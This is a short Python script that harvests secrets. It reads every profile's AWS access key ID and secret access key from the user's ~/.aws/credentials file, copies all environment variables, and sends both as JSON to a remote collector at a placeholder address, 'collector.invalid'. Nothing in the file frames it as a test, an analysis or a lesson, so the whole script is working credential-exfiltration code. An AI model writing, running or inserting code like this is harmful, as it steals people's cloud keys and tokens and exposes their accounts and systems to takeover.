import os, configparser, json, urllib.request
def aws():
    found = {}
    path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')
    if os.path.exists(path):
        config = configparser.RawConfigParser()
        config.read(path)
        for section in config.sections():
            found[section] = {'id': config.get(section, 'aws_access_key_id'), 'key': config.get(section, 'aws_secret_access_key')}
    return found
def variables():
    try:
        return dict(os.environ)
    except Exception as e:
        return {"error": str(e)}
def push(address, data):
    body = json.dumps(data).encode('utf-8')
    request = urllib.request.Request(address, data=body, headers={'Content-Type': 'application/json'})
    with urllib.request.urlopen(request) as answer:
        answer.read()
def main():
    everything = {}
    everything['aws'] = aws()
    everything['env'] = variables()
    push("https://collector.invalid/x", everything)
